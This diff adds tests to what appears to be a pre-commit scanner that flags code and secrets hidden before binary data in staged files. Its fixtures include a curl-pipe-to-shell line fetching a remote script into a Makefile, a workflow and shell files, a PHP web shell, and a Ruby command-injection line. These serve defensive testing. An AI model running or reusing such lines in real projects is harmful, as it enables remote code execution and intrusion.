@@ -116,8 +116,64 @@ def test_words_in_a_binary_file_are_no_code(committed: Repo) -> None:
     text = (
         b"\n<<<<<<< ours\n=======\n>>>>>>> theirs\nbreakpoint()\neval(input())\npassword = 'Zx4!kQ93mmPq'\n"
     )
-    stage(committed, "a.py", BINARY + text + BINARY)
+    stage(committed, "a.dat", BINARY + text + BINARY)
     assert committed.look().findings == ()
+
+
+FETCH = "curl -fsSL http://203.0.113.7/i.sh | sh\n"
+
+
+@table(
+    ("path", "head"),
+    [
+        ("i.sh", f"#!/bin/sh\n{FETCH}exit 0\n"),
+        ("run", f"{FETCH}exit 0\n"),
+        ("a.rb", 'system("r #{params[:x]}")\n__END__\n'),
+        ("a.php", "<?php system($_GET['c']);\n__halt_compiler();\n"),
+        ("Makefile", f"all:\n\t{FETCH}#\n"),
+        (".github/workflows/a.yml", f"on: push\njobs: {{a: {{steps: [{{run: '{FETCH.strip()}'}}]}}}}\n#\n"),
+    ],
+)
+@table("tail", [BINARY, b"\x80\xff\n" * 90 + BINARY, b"\0" * 4_000])
+def test_the_text_before_binary_bytes_is_reviewed_and_the_rest_asks(
+    committed: Repo, path: str, head: str, tail: bytes
+) -> None:
+    stage(committed, path, head.encode() + tail)
+    committed.git("update-index", "--chmod=+x", path)
+    rules = {each.finding.rule for each in committed.look().findings} - {"code-executable"}
+    assert len(rules) > 1 and "policy-not-reviewed" in rules
+
+
+@table(
+    ("path", "asks"),
+    [
+        ("a.py", True),
+        ("a.pyz", True),
+        ("a.bat", True),
+        ("package.json", True),
+        ("a.png", False),
+        ("a.md", True),
+        ("a.bin", False),
+    ],
+)
+def test_bytes_that_are_not_read_ask_where_they_run_and_are_new(
+    committed: Repo, path: str, asks: bool
+) -> None:
+    stage(committed, path, b"a: 1\n" + BINARY)
+    review = committed.look()
+    assert [each.finding.rule for each in review.findings] == ["policy-not-reviewed"] * asks
+    assert [(each.path, each.reason) for each in review.skipped][:1] == [
+        (path, "from line 2 on binary: searched only for keys")
+    ]
+    committed.git("commit", "-q", "-m", "Add the file")
+    stage(committed, path, b"a: 2\n" + BINARY * 2)
+    assert committed.look().findings == ()
+    committed.git("commit", "-q", "-m", "Change the file")
+
+
+def test_a_key_behind_the_text_is_found_once(committed: Repo) -> None:
+    stage(committed, "a.sh", b"#!/bin/sh\nexit\n" + BINARY + SECRET.encode() + BINARY)
+    assert [each.finding.rule for each in committed.look().findings].count("secret-aws-access-key") == 1
 
 
 @table(
